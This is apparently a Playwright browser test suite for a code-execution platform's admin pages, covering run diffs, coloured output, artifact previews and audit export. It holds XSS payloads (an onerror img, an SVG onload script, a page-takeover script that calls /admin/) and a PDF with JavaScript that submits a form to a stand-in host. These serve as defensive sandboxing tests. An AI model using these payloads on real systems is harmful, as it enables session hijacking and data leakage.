"""The history as people read it: runs compared, artifacts looked at, colours while they come, the audit trail."""

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
import requests
from playwright.sync_api import Page, expect

from scripts.chromium import PHONE
from tests.browser.conftest import Open, violations, write_program
from tests.live import TOKEN, Platform, eventually

pytestmark = pytest.mark.needs_docker

HEADERS = {"Authorization": f"Bearer {TOKEN}"}
# Something else at every run.
CHANGING = """
import os, time
def main():
    print('the same line')
    print('run', os.urandom(4).hex())
    return {'at': time.time_ns(), 'fixed': '<b>bold</b>'}
"""
COLOURS = r"""
import time
print('\x1b[1;31mred\x1b[0m and <img src=x onerror="document.title=1">', flush=True)
print('\x1b[32mgreen', end='', flush=True)
time.sleep(1)
print(' still green\x1b[0m', flush=True)
time.sleep(60)
"""
EVIL = "parent.document.title = document.title = 'taken over'; fetch('/admin/?taken')"
# Of a PDF: what its own scripts can say to a viewer.
EVIL_PDF = (
    "app.alert('from the PDF'); this.getURL('javascript:document.title=1'); app.launchURL('http://192.0.2.1/');"
    " this.submitForm('http://192.0.2.1/');"
)
ARTIFACTS = f"""
import os
def pdf(script):
    text = b'0.8 0.1 0.1 rg 20 20 260 100 re f 0 g BT /F1 24 Tf 40 150 Td (Hello PDF) Tj ET'
    objects = [
        b'<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>',
        b'<</Type/Pages/Kids[3 0 R]/Count 1>>',
        b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1'
        b'<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>',
        b'<</Length %d>>stream\\n%s\\nendstream' % (len(text), text),
        b'<</S/JavaScript/JS(' + script.replace(b'(', b'\\\\(').replace(b')', b'\\\\)') + b')>>',
    ]
    out, places = b'%PDF-1.7\\n', []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b'%d 0 obj\\n%s\\nendobj\\n' % (number, content)
    table = b''.join(b'%010d 00000 n \\n' % place for place in places)
    end = b'trailer<</Size 6/Root 1 0 R>>\\nstartxref\\n%d\\n%%%%EOF' % len(out)
    return out + b'xref\\n0 6\\n0000000000 65535 f \\n' + table + end
def main():
    os.makedirs('artifacts', exist_ok=True)
    evil = {EVIL!r}
    open('artifacts/page.html', 'w').write('<p>a page</p><script>' + evil + '</script>')
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="' + evil + '">'
    svg += '<script>' + evil + '</script></svg>'
    open('artifacts/picture.svg', 'w').write(svg)
    open('artifacts/report.pdf', 'wb').write(pdf({EVIL_PDF!r}.encode()))
"""


def submit(platform: Platform, code: str, **wanted: Any) -> dict[str, Any]:
    """Over the API, whose code policy is off where RAGFlow's blocks."""
    body = {"runtime": "python", "mode": "function", "code": code, "wait": 30} | wanted
    answer = requests.post(f"{platform.url}/api/v1/executions", json=body, headers=HEADERS, timeout=60)
    assert answer.status_code in (201, 202), answer.text
    return dict(answer.json())


def show(page: Page, platform: Platform, execution: dict[str, Any]) -> None:
    page.goto(f"{platform.url}/admin/executions/execution/{execution['id']}/change/")


def test_a_run_again_is_compared_with_the_one_before(open_page: Open, platform: Platform) -> None:
    page = open_page()
    show(page, platform, submit(platform, CHANGING))
    page.get_by_role("link", name="Run again").click()
    page.get_by_role("button", name="Run with the current configuration").click()
    page.wait_for_url("**/change/")
    card = page.locator("section", has=page.get_by_role("heading", name="Compared with the earlier run"))
    expect(card.locator(".diff-insert").first).to_contain_text("run ", timeout=30_000)
    expect(card.get_by_role("row", name=re.compile("^Status Succeeded Succeeded"))).to_be_visible()
    expect(card).to_contain_text("No difference in image, runtime")
    card.get_by_role("link", name="open as a page").click()
    result = page.get_by_role("region", name="Result of main(), compared")
    expect(result.locator(".diff-equal").nth(1)).to_contain_text('"fixed": "<b>bold</b>"')
    assert not violations(page)
    page.set_viewport_size({"width": PHONE[0], "height": PHONE[1]})
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE[0]
    page.get_by_role("link", name="The earlier run").click()
    expect(page.get_by_role("heading", name="Compared with the earlier run")).to_have_count(0)


def test_what_is_gone_is_said_in_words(open_page: Open, platform: Platform) -> None:
    page = open_page()
    execution = submit(platform, CHANGING)
    before = platform.sql("SELECT wall_time_ms FROM runtimes_runtime WHERE slug = 'python'")[0]["wall_time_ms"]
    platform.change_runtime("python", wall_time_ms=before - 1000)
    try:
        show(page, platform, execution)
        page.get_by_role("link", name="Run again").click()
        expect(page.locator(".explanation")).to_contain_text("above today's cap")
        expect(page.get_by_role("button", name="Run with the recorded configuration")).to_be_disabled()
        assert not violations(page)
        page.get_by_role("button", name="Run with the current configuration").click()
        page.wait_for_url("**/change/")
        expect(page.get_by_role("region", name="Configuration that differs")).to_contain_text(
            "limits.wall_time_ms", timeout=30_000
        )
    finally:
        platform.change_runtime("python", wall_time_ms=before)


@pytest.fixture
def patient(platform: Platform) -> Iterator[None]:
    """Programs may run long enough to be looked at."""
    before = platform.sql("SELECT wall_time_ms FROM runtimes_runtime WHERE slug = 'python'")[0]["wall_time_ms"]
    platform.change_runtime("python", wall_time_ms=60_000)
    yield
    platform.change_runtime("python", wall_time_ms=before)


def test_colours_are_there_while_it_runs(open_page: Open, platform: Platform, patient: None) -> None:
    page = open_page()
    show(page, platform, submit(platform, COLOURS, mode="script", wait=0))
    red = page.locator("#stdout .ansi-fg-red.ansi-b")
    expect(red).to_have_text("red")
    expect(page.locator("#stdout")).to_contain_text('<img src=x onerror="document.title=1">')
    expect(page.locator("#stdout img")).to_have_count(0)
    green = page.locator("#stdout .ansi-fg-green")
    eventually(lambda: "".join(green.all_text_contents()) == "green still green", "the colour holds")
    while_running = page.locator("#stdout").text_content()
    page.get_by_role("button", name="Cancel").click()
    expect(page.locator("#status")).to_have_text("Cancelled", timeout=30_000)
    expect(red).to_have_text("red")
    assert page.locator("#stdout").text_content() == while_running
    assert page.title() != "1"


def test_a_pdf_is_shown_and_no_script_of_any_artifact_reaches_us(open_page: Open, platform: Platform) -> None:
    page = open_page()
    said, asked = list[str](), list[str]()
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.context.on("request", lambda request: asked.append(request.url))
    execution = submit(platform, ARTIFACTS)
    show(page, platform, execution)
    title = page.title()
    for summary in page.locator(".artifact summary").all():
        summary.click()
    expect(page.frame_locator("iframe[title='Preview of page.html']").locator("p")).to_have_text("a page")
    picture = page.get_by_alt_text("Preview of picture.svg")
    picture.scroll_into_view_if_needed()
    eventually(lambda: picture.evaluate("image => image.naturalWidth"), "the picture is there")
    # Its script has run, where the viewer runs it: the viewer is there.
    eventually(lambda: page.wait_for_timeout(200) or said, "the PDF's own dialog")
    assert said == ["from the PDF"]
    viewers = [frame.url for frame in page.frames if frame.url.startswith("chrome-extension://")]
    assert len(viewers) == 1
    page.wait_for_timeout(1000)
    assert page.title() == title
    assert not [url for url in asked if "taken" in url or "192.0.2.1" in url]
    # The frame's document is the browser's own, with nothing of the PDF in it.
    inside = "frame => frame.contentDocument ? frame.contentDocument.body.innerText.trim() : ''"
    assert page.locator("iframe[title='Preview of report.pdf']").evaluate(inside) == ""
    # Nor when somebody opens a preview by itself.
    sources = "those => those.map(each => each.src)"
    for address in page.locator("iframe[sandbox], .artifact img").evaluate_all(sources):
        page.goto(address)
        page.wait_for_timeout(500)
        assert page.title() != "taken over"


def test_playground_has_colours_too(open_page: Open, platform: Platform) -> None:
    page = open_page()
    page.goto(f"{platform.url}/admin/playground/")
    page.get_by_label("Mode").select_option("script")
    write_program(page, r"print('\x1b[34mblue\x1b[0m')")
    page.locator("#run").click()
    expect(page.locator("#stdout .ansi-fg-blue")).to_have_text("blue")


def test_dates_lead_down_to_a_day(open_page: Open, platform: Platform) -> None:
    page = open_page()
    execution = submit(platform, CHANGING)
    page.goto(f"{platform.url}/admin/executions/execution/")
    year, month, day = (int(part) for part in execution["queued_at"][:10].split("-"))
    dates = page.get_by_role("navigation", name="Dates")
    dates.get_by_role("link", name=str(year), exact=True).click()
    dates.get_by_role("link").nth(month + 1).click()
    dates.get_by_role("link", name=str(day), exact=True).click()
    expect(dates.get_by_role("link", name=str(day), exact=True)).to_have_attribute("aria-current", "date")
    expect(page.locator("#result_list")).to_contain_text(execution["id"][-12:])
    assert not violations(page)


def test_trail_is_filtered_by_who_and_exported(open_page: Open, platform: Platform) -> None:
    page = open_page()
    page.goto(f"{platform.url}/admin/runtimes/runtime/")
    page.get_by_role("link", name="nodejs", exact=True).click()
    page.get_by_role("tab", name="Limits").click()
    page.get_by_role("spinbutton", name="Open files").fill("3000")
    page.get_by_role("button", name="Save", exact=True).click()
    page.wait_for_url("**/runtime/")
    page.goto(f"{platform.url}/admin/audit/trailentry/?who=admin&change=update")
    assert not violations(page)
    with page.expect_download() as download:
        page.get_by_role("link", name="Export JSONL").click()
    changes = [json.loads(line) for line in download.value.path().read_text().splitlines()]
    assert changes[-1]["columns"]["open_files"]["after"] == 3000
    assert {change["who"] for change in changes} == {"user admin"}
    with page.expect_download() as download:
        page.get_by_role("link", name="Export CSV").click()
    rows = list(csv.DictReader(io.StringIO(download.value.path().read_text())))
    assert ("open_files", "3000") in {(row["column"], row["after"]) for row in rows}
    page.locator("#result_list tbody a").first.click()
    expect(page.get_by_role("cell", name="3000", exact=True)).to_be_visible()
    assert not violations(page)
